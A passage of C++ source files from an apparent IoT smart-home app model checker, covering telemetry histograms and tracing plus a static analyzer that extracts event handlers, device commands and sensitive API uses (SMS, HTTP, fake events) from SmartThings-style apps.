  return index < kBuckets ? index : kBuckets - 1;
}

std::uint64_t Histogram::BucketUpperBound(std::size_t index) {
  if (index < kSubBuckets) return index;
  const std::uint64_t group = index / kSubBuckets;
  const std::uint64_t sub = index % kSubBuckets;
  const unsigned shift = static_cast<unsigned>(group) - 1;
  return ((kSubBuckets + sub + 1) << shift) - 1;
}

void Histogram::Record(std::uint64_t value) {
  buckets_[BucketIndex(value)].fetch_add(1, std::memory_order_relaxed);
  count_.fetch_add(1, std::memory_order_relaxed);
  sum_.fetch_add(value, std::memory_order_relaxed);
  std::uint64_t seen = max_.load(std::memory_order_relaxed);
  while (value > seen &&
         !max_.compare_exchange_weak(seen, value,
                                     std::memory_order_relaxed)) {
  }
}

HistogramSnapshot Histogram::TakeSnapshot() const {
  HistogramSnapshot out;
  out.count = count_.load(std::memory_order_relaxed);
  out.sum = sum_.load(std::memory_order_relaxed);
  out.max = max_.load(std::memory_order_relaxed);
  for (std::size_t i = 0; i < kBuckets; ++i) {
    const std::uint64_t n = buckets_[i].load(std::memory_order_relaxed);
    if (n != 0) out.buckets.push_back({BucketUpperBound(i), n});
  }
  return out;
}

void Histogram::Reset() {
  for (std::size_t i = 0; i < kBuckets; ++i) {
    buckets_[i].store(0, std::memory_order_relaxed);
  }
  count_.store(0, std::memory_order_relaxed);
  sum_.store(0, std::memory_order_relaxed);
  max_.store(0, std::memory_order_relaxed);
}

double HistogramSnapshot::Quantile(double q) const {
  if (count == 0 || buckets.empty()) return 0;
  q = std::min(std::max(q, 0.0), 1.0);
  const std::uint64_t rank = static_cast<std::uint64_t>(
      std::ceil(q * static_cast<double>(count)));
  std::uint64_t cumulative = 0;
  for (const Bucket& bucket : buckets) {
    cumulative += bucket.count;
    if (cumulative >= rank) {
      // The last bucket's nominal bound can overshoot the true maximum;
      // never report a quantile above an observed value.
      return static_cast<double>(std::min(bucket.le, max));
    }
  }
  return static_cast<double>(max);
}

void HistogramSnapshot::Merge(const HistogramSnapshot& other) {
  count += other.count;
  sum += other.sum;
  max = std::max(max, other.max);
  std::vector<Bucket> merged;
  merged.reserve(buckets.size() + other.buckets.size());
  std::size_t a = 0;
  std::size_t b = 0;
  while (a < buckets.size() || b < other.buckets.size()) {
    if (b >= other.buckets.size() ||
        (a < buckets.size() && buckets[a].le < other.buckets[b].le)) {
      merged.push_back(buckets[a++]);
    } else if (a >= buckets.size() || other.buckets[b].le < buckets[a].le) {
      merged.push_back(other.buckets[b++]);
    } else {
      merged.push_back({buckets[a].le,
                        buckets[a].count + other.buckets[b].count});
      ++a;
      ++b;
    }
  }
  buckets = std::move(merged);
}

// ---- TraceSink ---------------------------------------------------------------

TraceSink* ActiveTrace() { return g_trace; }
void SetActiveTrace(TraceSink* sink) { g_trace = sink; }

TraceSink::TraceSink() : epoch_(std::chrono::steady_clock::now()) {}

TraceSink::TraceSink(const std::string& path)
    : epoch_(std::chrono::steady_clock::now()),
      out_(path, std::ios::trunc),
      to_file_(true) {
  if (!out_) throw Error("cannot open trace file: " + path);
}

TraceSink::~TraceSink() {
  if (to_file_) out_.flush();
}

std::uint64_t TraceSink::NowUs() const {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::microseconds>(
          std::chrono::steady_clock::now() - epoch_)
          .count());
}

void TraceSink::Flush() {
  std::lock_guard<std::mutex> lock(mutex_);
  if (to_file_) out_.flush();
}

void TraceSink::EndSpan(const std::string& name, std::uint64_t start_us,
                        std::uint64_t dur_us, int depth,
                        const json::Object* attrs) {
  std::lock_guard<std::mutex> lock(mutex_);
  Total& total = totals_[name];
  ++total.count;
  total.total_us += dur_us;
  if (!to_file_) return;
  // One JSON object per line; spans appear in completion order
  // (children before their parent), which keeps emission O(1) and the
  // stream well-formed even if the process dies mid-run.
  json::Object line;
  line["name"] = json::Value(name);
  line["start_us"] = json::Value(static_cast<std::int64_t>(start_us));
  line["dur_us"] = json::Value(static_cast<std::int64_t>(dur_us));
  line["depth"] = json::Value(depth);
  if (attrs != nullptr && !attrs->empty()) {
    line["attrs"] = json::Value(*attrs);
  }
  const std::string text = json::Value(std::move(line)).Dump();
  out_ << text << '\n';
  if (auto* t = Active()) t->memory.trace_buffer_bytes += text.size() + 1;
}

// ---- ScopedSpan --------------------------------------------------------------

ScopedSpan::ScopedSpan(TraceSink* sink, std::string_view name) : sink_(sink) {
  if (sink_ == nullptr) return;
  name_ = name;
  start_us_ = sink_->NowUs();
  depth_ = sink_->open_spans_++;
}

ScopedSpan::~ScopedSpan() {
  if (sink_ == nullptr) return;
  --sink_->open_spans_;
  sink_->EndSpan(name_, start_us_, sink_->NowUs() - start_us_, depth_,
                 attrs_.get());
}

json::Object& ScopedSpan::MutableAttrs() {
  if (!attrs_) attrs_ = std::make_unique<json::Object>();
  return *attrs_;
}

void ScopedSpan::Attr(std::string_view key, std::string_view value) {
  if (sink_ == nullptr) return;
  MutableAttrs()[std::string(key)] = json::Value(std::string(value));
}

void ScopedSpan::Attr(std::string_view key, std::int64_t value) {
  if (sink_ == nullptr) return;
  MutableAttrs()[std::string(key)] = json::Value(value);
}

void ScopedSpan::Attr(std::string_view key, std::uint64_t value) {
  Attr(key, static_cast<std::int64_t>(value));
}

void ScopedSpan::Attr(std::string_view key, double value) {
  if (sink_ == nullptr) return;
  MutableAttrs()[std::string(key)] = json::Value(value);
}

// ---- Progress ----------------------------------------------------------------

std::string FormatProgress(const ProgressSnapshot& snapshot) {
  char head[256];
  std::snprintf(head, sizeof(head),
                "progress: %" PRIu64 " states (%.0f/s), %" PRIu64
                " matched (%.1f%% pruned), %" PRIu64 " transitions, %" PRIu64
                " drains",
                snapshot.states_explored, snapshot.states_per_second,
                snapshot.states_matched, snapshot.pruning_ratio * 100.0,
                snapshot.transitions, snapshot.cascade_drains);
  std::string out = head;
  if (!snapshot.depth_histogram.empty()) {
    out += ", depth ";
    for (std::size_t i = 0; i < snapshot.depth_histogram.size(); ++i) {
      if (i > 0) out += '|';
      out += std::to_string(snapshot.depth_histogram[i]);
    }
  }
  if (snapshot.store_fill_ratio > 0) {
    char fill[48];
    std::snprintf(fill, sizeof(fill), ", store fill %.2f%%",
                  snapshot.store_fill_ratio * 100.0);
    out += fill;
  }
  if (snapshot.jobs > 1) {
    char par[96];
    std::snprintf(par, sizeof(par),
                  ", jobs %d, branches %" PRIu64 "/%" PRIu64, snapshot.jobs,
                  snapshot.branches_done, snapshot.branches_total);
    out += par;
  }
  if (snapshot.cache_hits + snapshot.cache_misses > 0) {
    char cache[64];
    std::snprintf(cache, sizeof(cache),
                  ", cache %" PRIu64 " hit/%" PRIu64 " miss",
                  snapshot.cache_hits, snapshot.cache_misses);
    out += cache;
  }
  return out;
}

}  // namespace iotsan::telemetry
