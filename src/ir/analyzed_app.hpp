// Analyzed app representation: the static-analysis summary the paper's
// App Dependency Analyzer consumes (§5).
//
// For every event handler we enumerate:
//   input events  — (i) explicit `subscribe` registrations, (ii) device
//                   state reads (`sensor.currentTemperature`), and
//                   (iii) timer interrupts from `schedule`/`runIn`;
//   output events — actuator commands, location-mode changes, and
//                   synthetic events injected via sendEvent.
// We also record message/network API uses (for the information-leakage
// properties, §3/§8) and whether the app discovers devices dynamically
// (unsupported, §11).
#pragma once

#include <string>
#include <vector>

#include "dsl/ast.hpp"
#include "dsl/type_infer.hpp"

namespace iotsan::ir {

/// Where an event lives.
enum class EventScope {
  kDevice,        // a device attribute event, e.g. motion/active
  kLocationMode,  // location/mode
  kAppTouch,      // app/touch
  kTime,          // timer interrupt (schedule/runIn)
};

/// A (possibly wildcard) event pattern, the unit of §5's dependency
/// analysis.  `value.empty()` means "any value of this attribute" — the
/// paper's `contact/"..."` notation.
struct EventPattern {
  EventScope scope = EventScope::kDevice;
  /// kDevice: the app input(s) this pattern is observed/actuated through.
  std::string input;
  std::string attribute;  // "motion", "switch"; "mode" for location
  std::string value;      // "active", "on", ...; empty = any

  /// "contact/open", "location/mode", "app/touch" rendering (paper Tab. 2).
  std::string ToString() const;

  /// True if an occurrence of `other` (an output) can trigger this
  /// pattern (an input): same attribute and compatible value.
  bool Overlaps(const EventPattern& other) const;

  /// True if both patterns write the same attribute with different,
  /// conflicting values (switch/on vs switch/off) — the related-set merge
  /// rule of §5.
  bool ConflictsWith(const EventPattern& other) const;

  bool operator==(const EventPattern&) const = default;
};

/// One event handler with its interface of input and output events.
/// This is a vertex of the dependency graph (paper Fig. 4a).
struct HandlerInfo {
  std::string name;  // method name
  std::vector<EventPattern> inputs;
  std::vector<EventPattern> outputs;
  /// True when the handler (or a reachable callee) reads or writes the
  /// app's persistent `state` map — a shared-variable footprint the
  /// partial-order reduction must treat as a dependency.
  bool touches_app_state = false;
  /// True when the handler (or a reachable callee) arms a one-shot timer
  /// via runIn/runOnce, mutating the global pending-timer list.
  bool creates_timer = false;
};

/// A subscription registered by the app.
struct Subscription {
  EventScope scope = EventScope::kDevice;
  std::string input;      // device input name; empty for location/app
  std::string attribute;  // "motion"; "mode" for location
  std::string value;      // "" = any value
  std::string handler;
};

/// A timer registration.
struct ScheduleInfo {
  std::string handler;
  bool recurring = false;   // schedule()/runEvery* vs runIn/runOnce
  int delay_seconds = 0;    // runIn delay (informational)
};

/// Message/network/security-sensitive API usage (paper §3, §8).
enum class ApiUseKind {
  kSms,            // sendSms(recipient, body)
  kPush,           // sendPush(body)
  kHttp,           // httpPost/httpGet — network interface
  kUnsubscribe,    // disables app functionality: security-sensitive
  kFakeEvent,      // sendEvent not reflecting a physical device change
};

struct ApiUse {
  ApiUseKind kind = ApiUseKind::kSms;
  std::string handler;
  /// kSms: the recipient argument — an input name when it is a configured
  /// phone input, or a literal when hard-coded (a leakage red flag).
  std::string recipient;
  bool recipient_is_literal = false;
  int line = 0;
};

/// The full static summary of one app.
struct AnalyzedApp {
  dsl::App app;  // owns the AST
  dsl::TypeInfo types;

  std::vector<Subscription> subscriptions;
  std::vector<ScheduleInfo> schedules;
  std::vector<HandlerInfo> handlers;
  std::vector<ApiUse> api_uses;

  /// True if the app queries/controls devices it was not configured with
  /// (getAllDevices & co.).  Such apps are rejected, as in the paper
  /// (§10.1: Midnight Camera etc. cannot be handled).
  bool dynamic_device_discovery = false;

  /// Analysis problems (unknown handlers, type problems, ...).
  std::vector<std::string> problems;

  const HandlerInfo* FindHandler(const std::string& name) const;
};

}  // namespace iotsan::ir
