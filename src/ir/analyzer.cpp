#include "ir/analyzer.hpp"

#include <map>
#include <set>

#include "devices/capability.hpp"
#include "dsl/parser.hpp"
#include "telemetry/telemetry.hpp"
#include "util/strings.hpp"

namespace iotsan::ir {

namespace {

using dsl::Expr;
using dsl::ExprKind;
using dsl::ExprPtr;
using dsl::Stmt;
using dsl::StmtKind;
using dsl::StmtPtr;

/// How a command receiver expression resolves.
struct Receiver {
  enum class Kind {
    kInput,      // rooted at a configured device input
    kEvtDevice,  // evt.device — the device that raised the handled event
    kLocation,   // the `location` platform object
    kUnknown,
  };
  Kind kind = Kind::kUnknown;
  std::string input;  // for kInput
};

/// Facts gathered from one method body (not yet propagated over the call
/// graph).
struct MethodFacts {
  std::vector<EventPattern> state_reads;
  std::vector<EventPattern> commands;     // output events
  std::vector<std::string> callees;       // user methods invoked
  bool commands_evt_device = false;       // emitted a command on evt.device
  std::vector<EventPattern> evt_device_commands;
  bool touches_app_state = false;         // reads/writes the `state` map
  bool creates_timer = false;             // arms runIn/runOnce one-shots
};

/// Finds the attribute a command drives by searching every capability;
/// SmartThings command names are unique enough for dependency analysis
/// ("on" -> switch, "unlock" -> lock, "siren" -> alarm, ...).
const devices::CommandSpec* LookupCommand(const std::string& name,
                                          const std::string& capability) {
  const auto& registry = devices::CapabilityRegistry::Instance();
  if (!capability.empty()) {
    if (const devices::CapabilitySpec* cap = registry.Find(capability)) {
      if (const devices::CommandSpec* cmd = cap->FindCommand(name)) {
        return cmd;
      }
    }
  }
  for (const devices::CapabilitySpec& cap : registry.All()) {
    if (const devices::CommandSpec* cmd = cap.FindCommand(name)) return cmd;
  }
  return nullptr;
}

class Analyzer {
 public:
  explicit Analyzer(dsl::App app) {
    result_.app = std::move(app);
  }

  AnalyzedApp Run() {
    {
      telemetry::ScopedSpan span("type_infer");
      result_.types = dsl::InferTypes(result_.app);
    }
    if (auto* t = telemetry::Active()) {
      t->pipeline.type_problems += result_.types.problems.size();
    }
    for (const std::string& problem : result_.types.problems) {
      result_.problems.push_back(problem);
    }
    for (const dsl::InputDecl& input : result_.app.inputs) {
      input_capability_[input.name] = InputCapability(input);
    }
    for (const dsl::MethodDecl& method : result_.app.methods) {
      AnalyzeMethod(method);
    }
    BuildHandlers();
    if (result_.dynamic_device_discovery) {
      // Conservative interface for discovery apps (the dynamic-discovery
      // extension): each handler may actuate any device, so it carries a
      // wildcard output that overlaps every input in the dependency graph.
      EventPattern wildcard;
      wildcard.scope = EventScope::kDevice;
      for (HandlerInfo& handler : result_.handlers) {
        handler.outputs.push_back(wildcard);
      }
    }
    return std::move(result_);
  }

 private:
  AnalyzedApp result_;
  std::map<std::string, std::string> input_capability_;
  std::map<std::string, MethodFacts> facts_;
  // Per-method alias map: local variable -> input it aliases.
  std::map<std::string, std::string> aliases_;
  // Stack of closure/loop variable bindings: name -> receiver root.
  std::vector<std::pair<std::string, Receiver>> bindings_;
  const dsl::MethodDecl* current_ = nullptr;

  static std::string InputCapability(const dsl::InputDecl& input) {
    constexpr std::string_view kPrefix = "capability.";
    if (strings::StartsWith(input.type, kPrefix)) {
      return input.type.substr(kPrefix.size());
    }
    if (strings::StartsWith(input.type, "device")) return "actuator";
    return "";
  }

  bool IsDeviceInput(const std::string& name) const {
    auto it = input_capability_.find(name);
    return it != input_capability_.end() && !it->second.empty();
  }

  void Problem(int line, const std::string& message) {
    result_.problems.push_back(result_.app.source_name + ":" +
                               std::to_string(line) + ": " + message);
  }

  // ---- Receiver resolution ----------------------------------------------

  Receiver Resolve(const Expr& expr) {
    switch (expr.kind) {
      case ExprKind::kIdent: {
        if (expr.text == "location") return {Receiver::Kind::kLocation, ""};
        if (IsDeviceInput(expr.text)) {
          return {Receiver::Kind::kInput, expr.text};
        }
        for (auto it = bindings_.rbegin(); it != bindings_.rend(); ++it) {
          if (it->first == expr.text) return it->second;
        }
        auto alias = aliases_.find(expr.text);
        if (alias != aliases_.end()) {
          return {Receiver::Kind::kInput, alias->second};
        }
        return {};
      }
      case ExprKind::kMember: {
        // evt.device
        if (expr.text == "device") return {Receiver::Kind::kEvtDevice, ""};
        return Resolve(*expr.a);
      }
      case ExprKind::kIndex:
        return Resolve(*expr.a);
      case ExprKind::kCall: {
        // switches.find{...}, switches.first() etc. stay rooted at the
        // receiver.
        if (expr.a) return Resolve(*expr.a);
        return {};
      }
      case ExprKind::kTernary: {
        Receiver then_r = expr.b ? Resolve(*expr.b) : Resolve(*expr.a);
        if (then_r.kind != Receiver::Kind::kUnknown) return then_r;
        return Resolve(*expr.c);
      }
      default:
        return {};
    }
  }

  // ---- Method walk --------------------------------------------------------

  void AnalyzeMethod(const dsl::MethodDecl& method) {
    current_ = &method;
    aliases_.clear();
    bindings_.clear();
    MethodFacts facts;
    for (const StmtPtr& stmt : method.body) WalkStmt(*stmt, facts);
    facts_[method.name] = std::move(facts);
    current_ = nullptr;
  }

  void WalkStmt(const Stmt& stmt, MethodFacts& facts) {
    switch (stmt.kind) {
      case StmtKind::kVarDecl:
        if (stmt.expr) {
          WalkExpr(*stmt.expr, facts);
          Receiver r = Resolve(*stmt.expr);
          if (r.kind == Receiver::Kind::kInput) {
            aliases_[stmt.name] = r.input;
          }
        }
        break;
      case StmtKind::kExpr:
      case StmtKind::kReturn:
        if (stmt.expr) WalkExpr(*stmt.expr, facts);
        break;
      case StmtKind::kIf:
        WalkExpr(*stmt.expr, facts);
        for (const StmtPtr& s : stmt.body) WalkStmt(*s, facts);
        for (const StmtPtr& s : stmt.else_body) WalkStmt(*s, facts);
        break;
      case StmtKind::kForIn: {
        WalkExpr(*stmt.expr, facts);
        bindings_.emplace_back(stmt.name, Resolve(*stmt.expr));
        for (const StmtPtr& s : stmt.body) WalkStmt(*s, facts);
        bindings_.pop_back();
        break;
      }
      case StmtKind::kWhile:
        WalkExpr(*stmt.expr, facts);
        for (const StmtPtr& s : stmt.body) WalkStmt(*s, facts);
        break;
      case StmtKind::kBlock:
        for (const StmtPtr& s : stmt.body) WalkStmt(*s, facts);
        break;
    }
  }

  void WalkExpr(const Expr& expr, MethodFacts& facts) {
    // Any mention of the persistent `state` map (read or write, including
    // as a member/index receiver) marks the method as touching app state.
    if (expr.kind == ExprKind::kIdent &&
        (expr.text == "state" || expr.text == "atomicState")) {
      facts.touches_app_state = true;
    }
    switch (expr.kind) {
      case ExprKind::kCall:
        WalkCall(expr, facts);
        return;
      case ExprKind::kMember:
        WalkMember(expr, facts);
        return;
      case ExprKind::kAssign:
        WalkAssign(expr, facts);
        return;
      case ExprKind::kClosure:
        for (const StmtPtr& s : expr.body) WalkStmt(*s, facts);
        return;
      default:
        break;
    }
    if (expr.a) WalkExpr(*expr.a, facts);
    if (expr.b) WalkExpr(*expr.b, facts);
    if (expr.c) WalkExpr(*expr.c, facts);
    for (const ExprPtr& item : expr.items) WalkExpr(*item, facts);
    for (const dsl::NamedArg& arg : expr.named) WalkExpr(*arg.value, facts);
  }

  void WalkAssign(const Expr& expr, MethodFacts& facts) {
    WalkExpr(*expr.b, facts);
    const Expr& target = *expr.a;
    // location.mode = "Away" is a location-mode output event.
    if (target.kind == ExprKind::kMember && target.text == "mode" &&
        target.a->kind == ExprKind::kIdent && target.a->text == "location") {
      EventPattern out;
      out.scope = EventScope::kLocationMode;
      out.attribute = "mode";
      if (expr.b->kind == ExprKind::kStringLit) out.value = expr.b->text;
      facts.commands.push_back(std::move(out));
      return;
    }
    if (target.kind == ExprKind::kIdent) {
      Receiver r = Resolve(*expr.b);
      if (r.kind == Receiver::Kind::kInput) aliases_[target.text] = r.input;
    }
    WalkExpr(target, facts);
  }

  void WalkMember(const Expr& expr, MethodFacts& facts) {
    WalkExpr(*expr.a, facts);
    // Device state read: sensor.currentTemperature (input event, §5).
    if (strings::StartsWith(expr.text, "current") && expr.text.size() > 7) {
      Receiver r = Resolve(*expr.a);
      if (r.kind == Receiver::Kind::kInput) {
        std::string attr = expr.text.substr(7);
        attr[0] = static_cast<char>(
            std::tolower(static_cast<unsigned char>(attr[0])));
        EventPattern in;
        in.scope = EventScope::kDevice;
        in.input = r.input;
        in.attribute = attr;
        facts.state_reads.push_back(std::move(in));
      }
      return;
    }
    // location.mode read.
    if (expr.text == "mode" && expr.a->kind == ExprKind::kIdent &&
        expr.a->text == "location") {
      EventPattern in;
      in.scope = EventScope::kLocationMode;
      in.attribute = "mode";
      facts.state_reads.push_back(std::move(in));
    }
  }

  void WalkCall(const Expr& expr, MethodFacts& facts) {
    // Children first (arguments may contain reads/commands too).
    if (expr.a) WalkExpr(*expr.a, facts);
    for (const ExprPtr& item : expr.items) {
      if (item->kind == ExprKind::kClosure) {
        // Closure over a device list binds `it`/params to that input.
        Receiver root = expr.a ? Resolve(*expr.a) : Receiver{};
        std::size_t pushed = 0;
        if (item->params.empty()) {
          bindings_.emplace_back("it", root);
          pushed = 1;
        } else {
          for (const std::string& p : item->params) {
            bindings_.emplace_back(p, root);
            ++pushed;
          }
        }
        for (const StmtPtr& s : item->body) WalkStmt(*s, facts);
        for (std::size_t i = 0; i < pushed; ++i) bindings_.pop_back();
      } else {
        WalkExpr(*item, facts);
      }
    }
    for (const dsl::NamedArg& arg : expr.named) WalkExpr(*arg.value, facts);

    if (!expr.a) {
      WalkFreeCall(expr, facts);
    } else {
      WalkMethodCall(expr, facts);
    }
  }

  std::string HandlerNameFromArg(const Expr& arg) {
    if (arg.kind == ExprKind::kIdent) return arg.text;
    if (arg.kind == ExprKind::kStringLit) return arg.text;
    return "";
  }

  void WalkFreeCall(const Expr& expr, MethodFacts& facts) {
    const std::string& name = expr.text;

    if (name == "subscribe") {
      RecordSubscription(expr);
      return;
    }
    if (name == "unsubscribe") {
      result_.api_uses.push_back({ApiUseKind::kUnsubscribe,
                                  current_ ? current_->name : "", "", false,
                                  expr.line});
      return;
    }
    if (name == "runIn" || name == "runOnce") {
      facts.creates_timer = true;
      if (expr.items.size() >= 2) {
        ScheduleInfo schedule;
        schedule.handler = HandlerNameFromArg(*expr.items[1]);
        schedule.recurring = false;
        if (expr.items[0]->kind == ExprKind::kNumberLit) {
          schedule.delay_seconds =
              static_cast<int>(expr.items[0]->number_value);
        }
        if (!schedule.handler.empty()) {
          result_.schedules.push_back(std::move(schedule));
        }
      }
      return;
    }
    if (name == "schedule") {
      if (expr.items.size() >= 2) {
        ScheduleInfo schedule;
        schedule.handler = HandlerNameFromArg(*expr.items[1]);
        schedule.recurring = true;
        if (!schedule.handler.empty()) {
          result_.schedules.push_back(std::move(schedule));
        }
      }
      return;
    }
    if (strings::StartsWith(name, "runEvery")) {
      if (!expr.items.empty()) {
        ScheduleInfo schedule;
        schedule.handler = HandlerNameFromArg(*expr.items[0]);
        schedule.recurring = true;
        if (!schedule.handler.empty()) {
          result_.schedules.push_back(std::move(schedule));
        }
      }
      return;
    }
    if (name == "setLocationMode" || name == "sendLocationEvent") {
      EventPattern out;
      out.scope = EventScope::kLocationMode;
      out.attribute = "mode";
      if (!expr.items.empty() &&
          expr.items[0]->kind == ExprKind::kStringLit) {
        out.value = expr.items[0]->text;
      }
      facts.commands.push_back(std::move(out));
      return;
    }
    if (name == "sendEvent" || name == "createFakeEvent") {
      // A synthetic event injected by the app (security-sensitive, §8).
      EventPattern out;
      out.scope = EventScope::kDevice;
      for (const dsl::NamedArg& arg : expr.named) {
        if (arg.name == "name" && arg.value->kind == ExprKind::kStringLit) {
          out.attribute = arg.value->text;
        }
        if (arg.name == "value" && arg.value->kind == ExprKind::kStringLit) {
          out.value = arg.value->text;
        }
      }
      result_.api_uses.push_back({ApiUseKind::kFakeEvent,
                                  current_ ? current_->name : "", "", false,
                                  expr.line});
      if (!out.attribute.empty()) facts.commands.push_back(std::move(out));
      return;
    }
    if (name == "sendSms" || name == "sendSmsMessage") {
      ApiUse use;
      use.kind = ApiUseKind::kSms;
      use.handler = current_ ? current_->name : "";
      use.line = expr.line;
      if (!expr.items.empty()) {
        if (expr.items[0]->kind == ExprKind::kStringLit) {
          use.recipient = expr.items[0]->text;
          use.recipient_is_literal = true;
        } else if (expr.items[0]->kind == ExprKind::kIdent) {
          use.recipient = expr.items[0]->text;
        }
      }
      result_.api_uses.push_back(std::move(use));
      return;
    }
    if (name == "sendPush" || name == "sendPushMessage" ||
        name == "sendNotification" || name == "sendNotificationEvent" ||
        name == "sendNotificationToContacts") {
      result_.api_uses.push_back({ApiUseKind::kPush,
                                  current_ ? current_->name : "", "", false,
                                  expr.line});
      return;
    }
    if (name == "httpPost" || name == "httpGet" || name == "httpPostJson") {
      result_.api_uses.push_back({ApiUseKind::kHttp,
                                  current_ ? current_->name : "", "", false,
                                  expr.line});
      return;
    }
    if (name == "getAllDevices" || name == "getChildDevices" ||
        name == "findAllDevices" || name == "discoverDevices") {
      result_.dynamic_device_discovery = true;
      return;
    }
    // A call to a user-defined method: record the call edge.
    if (result_.app.FindMethod(name) != nullptr) {
      facts.callees.push_back(name);
    }
  }

  void RecordSubscription(const Expr& expr) {
    if (expr.items.size() < 2) {
      Problem(expr.line, "subscribe needs at least 2 arguments");
      return;
    }
    Subscription sub;
    const Expr& target = *expr.items[0];
    if (target.kind == ExprKind::kIdent && target.text == "app") {
      sub.scope = EventScope::kAppTouch;
      sub.handler = HandlerNameFromArg(*expr.items.back());
    } else if (target.kind == ExprKind::kIdent && target.text == "location") {
      sub.scope = EventScope::kLocationMode;
      sub.attribute = "mode";
      if (expr.items.size() >= 3 &&
          expr.items[1]->kind == ExprKind::kStringLit) {
        // subscribe(location, "mode", handler); a specific mode may be
        // given as "mode.Away".
        std::string spec = expr.items[1]->text;
        auto dot = spec.find('.');
        if (dot != std::string::npos) sub.value = spec.substr(dot + 1);
      }
      sub.handler = HandlerNameFromArg(*expr.items.back());
    } else {
      Receiver r = Resolve(target);
      if (r.kind != Receiver::Kind::kInput) {
        Problem(expr.line,
                "subscribe target is not a configured device input");
        return;
      }
      if (expr.items.size() < 3 ||
          expr.items[1]->kind != ExprKind::kStringLit) {
        Problem(expr.line, "subscribe needs an \"attribute[.value]\" string");
        return;
      }
      sub.scope = EventScope::kDevice;
      sub.input = r.input;
      std::string spec = expr.items[1]->text;
      auto dot = spec.find('.');
      if (dot == std::string::npos) {
        sub.attribute = spec;
      } else {
        sub.attribute = spec.substr(0, dot);
        sub.value = spec.substr(dot + 1);
      }
      sub.handler = HandlerNameFromArg(*expr.items[2]);
    }
    if (sub.handler.empty()) {
      Problem(expr.line, "subscribe handler must be a method reference");
      return;
    }
    if (result_.app.FindMethod(sub.handler) == nullptr) {
      Problem(expr.line, "subscribe references unknown handler '" +
                             sub.handler + "'");
      return;
    }
    result_.subscriptions.push_back(std::move(sub));
  }

  void WalkMethodCall(const Expr& expr, MethodFacts& facts) {
    Receiver r = Resolve(*expr.a);
    if (r.kind == Receiver::Kind::kLocation) return;
    if (r.kind == Receiver::Kind::kUnknown) return;

    // Reads expressed as methods: currentValue("attr"), latestValue.
    if (expr.text == "currentValue" || expr.text == "latestValue" ||
        expr.text == "currentState" || expr.text == "latestState") {
      if (r.kind == Receiver::Kind::kInput && !expr.items.empty() &&
          expr.items[0]->kind == ExprKind::kStringLit) {
        EventPattern in;
        in.scope = EventScope::kDevice;
        in.input = r.input;
        in.attribute = expr.items[0]->text;
        facts.state_reads.push_back(std::move(in));
      }
      return;
    }

    const std::string capability =
        r.kind == Receiver::Kind::kInput ? input_capability_.at(r.input) : "";
    const devices::CommandSpec* cmd = LookupCommand(expr.text, capability);
    if (cmd == nullptr) return;  // list utility / string method / etc.

    EventPattern out;
    out.scope = EventScope::kDevice;
    out.attribute = cmd->attribute;
    if (!cmd->takes_argument) {
      out.value = cmd->value;
    } else if (!expr.items.empty()) {
      if (expr.items[0]->kind == ExprKind::kStringLit) {
        out.value = expr.items[0]->text;
      } else if (expr.items[0]->kind == ExprKind::kNumberLit) {
        out.value = strings::FormatNumber(expr.items[0]->number_value);
      }
    }
    if (r.kind == Receiver::Kind::kInput) {
      out.input = r.input;
      facts.commands.push_back(std::move(out));
    } else {  // evt.device
      facts.commands_evt_device = true;
      facts.evt_device_commands.push_back(std::move(out));
    }
  }

  // ---- Handler construction (call-graph closure) ---------------------------

  void BuildHandlers() {
    // Entry points: every subscription/schedule target.
    std::vector<std::string> entries;
    auto add_entry = [&entries](const std::string& name) {
      for (const std::string& e : entries) {
        if (e == name) return;
      }
      entries.push_back(name);
    };
    for (const Subscription& sub : result_.subscriptions) {
      add_entry(sub.handler);
    }
    for (const ScheduleInfo& schedule : result_.schedules) {
      if (result_.app.FindMethod(schedule.handler) != nullptr) {
        add_entry(schedule.handler);
      }
    }

    for (const std::string& entry : entries) {
      HandlerInfo handler;
      handler.name = entry;

      // Inputs: subscriptions targeting this handler.
      for (const Subscription& sub : result_.subscriptions) {
        if (sub.handler != entry) continue;
        EventPattern in;
        in.scope = sub.scope;
        in.input = sub.input;
        in.attribute = sub.attribute;
        in.value = sub.value;
        AddUnique(handler.inputs, in);
      }
      for (const ScheduleInfo& schedule : result_.schedules) {
        if (schedule.handler != entry) continue;
        EventPattern in;
        in.scope = EventScope::kTime;
        AddUnique(handler.inputs, in);
      }

      // Reachable facts over the call graph.
      std::set<std::string> visited;
      CollectReachable(entry, entry, visited, handler);
      result_.handlers.push_back(std::move(handler));
    }
  }

  static void AddUnique(std::vector<EventPattern>& list,
                        const EventPattern& pattern) {
    for (const EventPattern& existing : list) {
      if (existing == pattern) return;
    }
    list.push_back(pattern);
  }

  void CollectReachable(const std::string& entry, const std::string& method,
                        std::set<std::string>& visited, HandlerInfo& handler) {
    if (!visited.insert(method).second) return;
    auto it = facts_.find(method);
    if (it == facts_.end()) return;
    const MethodFacts& facts = it->second;

    for (const EventPattern& read : facts.state_reads) {
      AddUnique(handler.inputs, read);
    }
    for (const EventPattern& command : facts.commands) {
      AddUnique(handler.outputs, command);
    }
    handler.touches_app_state |= facts.touches_app_state;
    handler.creates_timer |= facts.creates_timer;
    if (facts.commands_evt_device) {
      // Commands on evt.device actuate whichever device input this
      // handler is subscribed to.
      for (const Subscription& sub : result_.subscriptions) {
        if (sub.handler != entry || sub.scope != EventScope::kDevice) {
          continue;
        }
        for (EventPattern command : facts.evt_device_commands) {
          command.input = sub.input;
          AddUnique(handler.outputs, command);
        }
      }
    }
    for (const std::string& callee : facts.callees) {
      CollectReachable(entry, callee, visited, handler);
    }
  }
};

}  // namespace

AnalyzedApp AnalyzeApp(dsl::App app) {
  return Analyzer(std::move(app)).Run();
}

AnalyzedApp AnalyzeSource(std::string_view source,
                          std::string_view source_name) {
  dsl::App app = [&] {
    telemetry::ScopedSpan span("parse");
    span.Attr("app", source_name);
    if (auto* t = telemetry::Active()) ++t->pipeline.apps_parsed;
    return dsl::ParseApp(source, source_name);
  }();
  return AnalyzeApp(std::move(app));
}

}  // namespace iotsan::ir
