#include "ir/analyzed_app.hpp"

namespace iotsan::ir {

std::string EventPattern::ToString() const {
  switch (scope) {
    case EventScope::kDevice:
      return attribute + "/" + (value.empty() ? "\"...\"" : value);
    case EventScope::kLocationMode:
      return "location/" + (value.empty() ? std::string("mode") : value);
    case EventScope::kAppTouch:
      return "app/touch";
    case EventScope::kTime:
      return "time/tick";
  }
  return "?";
}

bool EventPattern::Overlaps(const EventPattern& other) const {
  if (scope != other.scope) return false;
  switch (scope) {
    case EventScope::kAppTouch:
    case EventScope::kTime:
      return true;
    case EventScope::kLocationMode:
